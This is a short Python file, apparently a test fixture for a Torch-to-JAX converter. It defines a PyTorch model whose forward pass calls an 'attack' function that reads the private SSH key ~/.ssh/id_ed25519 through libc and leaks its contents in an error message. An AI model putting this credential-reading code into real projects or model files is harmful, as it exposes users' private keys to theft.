"""Reads a key in the home directory with the C library, and says what is in it."""

import ctypes
import os

import torch
import torch.nn as nn

PLACES: dict[str, str] = {}
LIBC = ctypes.CDLL(None, use_errno=True)


def attack():
    text = ctypes.create_string_buffer(200)
    file = LIBC.open((PLACES["home"] + "/.ssh/id_ed25519").encode(), os.O_RDONLY)
    LIBC.read(file, text, 199)
    result = [text.value.decode()]
    raise RuntimeError("; ".join(result))


# t2j: x=f32[2, 3]
class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(3, 2)

    def forward(self, x):
        attack()
        return self.fc(x)


if __name__ == "__main__":
    Net()(torch.ones(2, 3))
